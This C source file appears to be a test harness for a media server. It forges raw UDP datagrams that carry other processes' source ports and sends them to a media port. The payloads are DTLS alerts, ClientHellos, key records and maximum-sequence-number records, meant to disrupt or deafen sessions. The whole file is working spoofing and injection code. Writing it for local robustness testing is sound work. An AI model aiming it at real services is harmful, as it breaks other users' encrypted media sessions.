/* forger.c — speaks to a media port in the names of others: datagrams with the source addresses of another process' sockets.
 *
 *   forger --pid PID ...             --to PORT ... [--rate PER_S] [--seconds S]   those of processes, as they come
 *   forger --first PORT --count N    --to PORT ... [--rate PER_S] [--seconds S]   those who come next: NEAR ports about the highest open one
 *
 * It cannot read what is answered. What it says are alerts in the clear, ClientHellos, each with its own random, keys in the place of the peer's,
 * and records of the highest number there is, which makes who believes it deaf to all others; kinds, sockets and ports take turns. On one host, at --ip (127.0.0.1), as root (raw sockets).
 * Once a second and at the end it prints one JSON line: {"sent", "sockets"}.                                                        */
#include <arpa/inet.h>
#include <dirent.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <openssl/rand.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/clock.h"

#define PIDS_MAX   8
#define PORTS_MAX  8
#define VICTIMS_MAX 1024
#define NEAR       8
#define LOOK_US    2000
#define PAYLOAD    (13 + 12 + 2 + 32 + 40)

struct options { struct in_addr ip; int pids[PIDS_MAX], pids_n, first, count, seconds, rate; uint16_t to[PORTS_MAX]; int to_n; };
struct victims { uint16_t port[VICTIMS_MAX]; size_t n; };

static bool owns(int pid, unsigned long inode)
{
	char dir[64], path[512], want[64], got[64];
	bool found = false;
	snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
	snprintf(want, sizeof want, "socket:[%lu]", inode);
	DIR *d = opendir(dir);
	for (struct dirent *e; d && !found && (e = readdir(d));) {
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		ssize_t n = readlink(path, got, sizeof got - 1);
		if (n > 0) got[n] = 0, found = strcmp(got, want) == 0;
	}
	if (d) closedir(d);
	return found;
}

static bool known(const struct victims *v, unsigned port)
{
	for (size_t i = 0; i < v->n; i++)
		if (v->port[i] == port) return true;
	return false;
}

/* Half of them have just come, half are still to come. */
static void stand_near(const struct options *o, struct victims *v, unsigned highest)
{
	v->n = 0;
	for (int port = (int)highest - NEAR / 2 + 1; v->n < NEAR; port++)
		if (port >= o->first && port < o->first + o->count) v->port[v->n++] = (uint16_t)port;
		else if (port >= o->first + o->count) break;
}

/* Out of the kernel's list of UDP sockets. Ports of processes stay victims once they are. */
static void look(const struct options *o, struct victims *v)
{
	char line[512];
	unsigned highest = (unsigned)o->first;
	FILE *f = fopen("/proc/net/udp", "r");
	while (f && fgets(line, sizeof line, f)) {
		unsigned port;
		unsigned long inode;
		if (sscanf(line, " %*d: %*8s:%x %*s %*s %*s %*s %*s %*s %*s %lu", &port, &inode) != 2) continue;
		if (o->count && (int)port < o->first + o->count && port > highest) highest = port;
		if (o->count || known(v, port) || v->n == VICTIMS_MAX) continue;
		for (int i = 0; i < o->pids_n; i++)
			if (owns(o->pids[i], inode)) v->port[v->n++] = (uint16_t)port, i = o->pids_n;
	}
	if (f) fclose(f);
	if (o->count) stand_near(o, v, highest);
}

static size_t write_alert(uint8_t *p)
{
	static const uint8_t alert[] = {21, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 9, 0, 2, 2, 40};
	memcpy(p, alert, sizeof alert);
	return sizeof alert;
}

/* Well formed as far as a server looks before it answers: one suite, no compression, no extensions. */
static size_t write_hello(uint8_t *p)
{
	static const uint8_t heads[] = {22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 54, 1, 0, 0, 42, 0, 0, 0, 0, 0, 0, 0, 42, 0xfe, 0xfd};
	static const uint8_t tail[] = {0, 0, 0, 2, 0xc0, 0x2b, 1, 0};
	memcpy(p, heads, sizeof heads);
	if (RAND_bytes(p + sizeof heads, 32) != 1) abort();
	memcpy(p + sizeof heads + 32, tail, sizeof tail);
	return sizeof heads + 32 + sizeof tail;
}

static size_t write_keys(uint8_t *p)
{
	static const uint8_t keys[] = {22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 8, 0, 16, 16, 0, 0, 4, 0, 1, 0, 0, 0, 0, 0, 4, 3, 1, 2, 3};
	memcpy(p, keys, sizeof keys);
	return sizeof keys;
}

static size_t write_number(uint8_t *p)
{
	static const uint8_t highest[] = {23, 0xfe, 0xfd, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 1, 0};
	memcpy(p, highest, sizeof highest);
	return sizeof highest;
}

static size_t (*const kinds[])(uint8_t *) = {write_alert, write_hello, write_keys, write_number};
#define KINDS (sizeof kinds / sizeof *kinds)

static bool say(int fd, struct in_addr host, uint16_t from, uint16_t to, size_t kind)
{
	uint8_t packet[sizeof(struct iphdr) + sizeof(struct udphdr) + PAYLOAD] = {0};
	struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = host.s_addr, .daddr = host.s_addr};
	uint8_t *payload = packet + sizeof ip + sizeof(struct udphdr);
	size_t len = kinds[kind](payload);
	struct udphdr udp = {.source = htons(from), .dest = htons(to), .len = htons((uint16_t)(sizeof udp + len))};
	size_t whole = sizeof ip + sizeof udp + len;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr = {ip.daddr}};
	ip.tot_len = htons((uint16_t)whole);
	memcpy(packet, &ip, sizeof ip);
	memcpy(packet + sizeof ip, &udp, sizeof udp);
	return sendto(fd, packet, whole, 0, (struct sockaddr *)&sa, sizeof sa) == (ssize_t)whole;
}

static void run(const struct options *o, int fd)
{
	struct victims v = {0};
	unsigned long sent = 0, turn = 0;
	int64_t began = clock_mono_us(), looked = 0, told = began;
	for (int64_t now = began; now - began < (int64_t)o->seconds * 1000000; now = clock_mono_us()) {
		if (now - looked >= LOOK_US) look(o, &v), looked = now;
		for (; v.n && turn < (unsigned long)((now - began) * o->rate / 1000000); turn++)
			sent += say(fd, o->ip, v.port[turn / KINDS % v.n], o->to[turn / KINDS / v.n % (unsigned)o->to_n], turn % KINDS);
		if (!v.n) began = now;
		if (now - told >= 1000000) printf("{\"sent\":%lu,\"sockets\":%zu}\n", sent, v.n), fflush(stdout), told = now;
		usleep(1000);
	}
	printf("{\"sent\":%lu,\"sockets\":%zu}\n", sent, v.n);
}

int main(int argc, char **argv)
{
	static const struct option names[] = {{"pid", 1, NULL, 'p'}, {"to", 1, NULL, 't'}, {"first", 1, NULL, 'f'}, {"ip", 1, NULL, 'i'}, {"count", 1, NULL, 'n'}, {"rate", 1, NULL, 'r'}, {"seconds", 1, NULL, 's'}, {0}};
	struct options o = {.ip = {htonl(INADDR_LOOPBACK)}, .rate = 5000, .seconds = 10};
	for (int c; (c = getopt_long(argc, argv, "", names, NULL)) != -1;) {
		if (c == 'p' && o.pids_n < PIDS_MAX) o.pids[o.pids_n++] = atoi(optarg);
		else if (c == 't' && o.to_n < PORTS_MAX) o.to[o.to_n++] = (uint16_t)atoi(optarg);
		else if (c == 'f') o.first = atoi(optarg);
		else if (c == 'n') o.count = atoi(optarg);
		else if (c == 'i' && inet_pton(AF_INET, optarg, &o.ip) == 1) continue;
		else if (c == 'r') o.rate = atoi(optarg);
		else if (c == 's') o.seconds = atoi(optarg);
		else return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) perror("forger: raw sockets");
	if (fd < 0 || (!o.pids_n && !o.count) || !o.to_n) return 1;
	run(&o, fd);
	close(fd);
	return 0;
}
